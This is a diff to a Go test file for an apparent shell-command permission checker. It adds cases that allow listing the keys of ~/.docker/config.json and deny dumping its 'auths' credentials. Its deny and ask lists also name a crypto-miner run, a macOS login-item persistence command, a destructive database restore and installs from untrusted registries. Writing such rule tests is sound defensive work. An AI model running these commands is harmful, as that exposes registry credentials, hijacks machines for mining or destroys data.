@@ -48,6 +48,7 @@ func TestOtherNames(t *testing.T) {
 	decideAll(t, []verdict{
 		{umpire.Allow, []string{"pip install -r <(echo requests)", "PIP_CONFIG_FILE=/dev/null pip install requests", "docker buildx bake", "git grep --no-index -n TODO -- '*.go'", "mongoimport -c users --file users.json", "supabase migration new drop_old_column", "aws cloudformation deploy --no-execute-changeset --stack-name x", "powershell -c 'Set-ExecutionPolicy -Scope Process Bypass; ./build.ps1'"}},
 		{umpire.Ask, []string{"pip install -r <(echo git+https://x.example/r)", "PIP_CONFIG_FILE=/tmp/pip.conf pip install requests", "printf 'registry=https://x.example' > my.npmrc; NPM_CONFIG_USERCONFIG=my.npmrc npm install left-pad", "docker buildx bake --allow=fs=/", "git grep --no-index -n SECRET -- '.env*'"}},
-		{umpire.Deny, []string{"./m -o stratum+tcp://pool.x.example:4444 -u w", `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/x.app"}'`, "mongorestore --drop dump", "powershell -c 'Set-ExecutionPolicy Bypass'"}},
+		{umpire.Allow, []string{"jq keys ~/.docker/config.json", "jq -r '.auths | keys[]' ~/.docker/config.json", "jq '.auths|length' ~/.docker/config.json"}},
+		{umpire.Deny, []string{"jq '., keys' ~/.docker/config.json", "jq '.auths' ~/.docker/config.json", "jq 'keys | .[0], input' ~/.docker/config.json", "./m -o stratum+tcp://pool.x.example:4444 -u w", `osascript -e 'tell application "System Events" to make login item at end with properties {path:"/tmp/x.app"}'`, "mongorestore --drop dump", "powershell -c 'Set-ExecutionPolicy Bypass'"}},
 	})
 }
